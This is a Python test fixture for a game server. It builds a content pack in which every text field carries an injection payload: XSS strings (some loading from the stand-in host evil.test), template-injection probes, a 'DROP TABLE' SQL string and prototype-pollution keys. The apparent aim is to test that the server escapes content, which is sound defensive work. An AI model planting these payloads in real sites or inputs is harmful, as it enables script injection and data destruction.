"""Texts that would do harm wherever a text is taken for something else."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

from server.game.pack import Pack
from server.packs.manifest import NAME
from tests.packs.folder import good_folder
from tests.packs.small import small_pack

#: All of them raise an alarm if they are ever run: a dialog, or a request to another place.
PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=//evil.test/x></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.test/x.png>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x",
    "<video src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=//evil.test/x>",
    "<embed src=//evil.test/x>",
    "<link rel=stylesheet href=//evil.test>",
    "<style>*{display:none}</style>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content=0>",
    "<form action=//evil.test><button>Go",
    "<a href=javascript:alert(1)>Go</a>",
    "<math href=javascript:alert(1)>Go",
    "<marquee onstart=alert(1)>Go",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "' onmouseover='alert(1)",
    '" onmouseover="alert(1)',
    '"><img src=x onerror=alert(1)>',
    "'-alert(1)-'",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "{{ 7 * 7 }}",
    "{% if 1 %}x{% endif %}",
    "${alert(1)}",
    "#{7*7}",
    "<%= 7 * 7 %>",
    "`alert(1)`",
    "&lt;b&gt; &amp; &#60;i&#62;",
    "\\u003cscript\\u003ealert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "=HYPERLINK(1)",
    "__proto__",
    "constructor",
    "[object Object]",
    "'; DROP TABLE entry; --",
    "שלום <b>עולם</b>",
    "مرحبا <i>بالعالم</i>",
    "undefined null NaN",
    "👩‍👩‍👧‍👦 <b>🏳️‍🌈</b>",
)


def spiked(text: str, at: int) -> str:
    """Return a payload with *text* behind it, so that no two are the same."""
    return f"{PAYLOADS[at % len(PAYLOADS)]} {text}"


def harmful_pack(parent: Path) -> Path:
    """Write a pack below *parent* in which every text holds a payload, and return its folder."""
    return good_folder(parent, spiked_pack())


def spiked_pack() -> Pack:
    pack = small_pack(stages=6, facts=10, events=9)
    short = [text for text in PAYLOADS if len(text) <= NAME]
    stages = tuple(
        replace(
            stage,
            name=short[at],
            meaning=spiked(stage.meaning, at + 6),
            outcome=spiked(stage.outcome, at + 12),
            why=spiked(stage.why, at + 18),
            questions=tuple(spiked(one, at + 20) for one in stage.questions),
            example=replace(
                stage.example,
                place=spiked(stage.example.place, at + 24),
                text=spiked(stage.example.text, at + 30),
            ),
        )
        for at, stage in enumerate(pack.stages)
    )
    facts = tuple(
        replace(fact, text=spiked(str(at), at), short=f"{at} <b>&amp;</b>")
        for at, fact in enumerate(pack.facts)
    )
    events = tuple(
        replace(event, text=spiked(event.text, at), why=spiked(event.why, at + 26))
        for at, event in enumerate(pack.events)
    )
    return replace(
        pack,
        title=spiked("title", 0),
        summary=spiked("summary", 3),
        scenario_title=spiked("Mill Street", 5),
        scenario=" ".join(PAYLOADS),
        stages=stages,
        facts=facts,
        events=events,
        reflection=tuple(spiked(one, 28) for one in pack.reflection),
    )
